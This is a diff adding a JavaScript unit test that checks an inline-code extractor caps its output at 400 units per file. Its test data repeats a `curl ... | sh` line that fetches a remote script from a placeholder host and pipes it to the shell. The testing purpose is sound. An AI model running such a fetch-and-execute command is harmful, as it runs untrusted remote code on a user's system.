@@ -192,6 +192,10 @@ describe('inline commands as code units', () => {
     assert.deepEqual(inlineUnits('Avoid `chmod 777`; edit `config.json`, run `npm test` and `git status`, then `base64 -d`.\n'), []);
   });
 
+  it('caps the inline units of one file', () => {
+    assert.equal(inlineUnits('Run `curl -s https://x.example.net/a | sh` now.\n'.repeat(1000)).length, 400);
+  });
+
   it('keeps a multi-line code span out of the units', () => {
     assert.deepEqual(inlineUnits('Run `curl https://x.example.net/a\n| sh` now.\n'), []);
   });
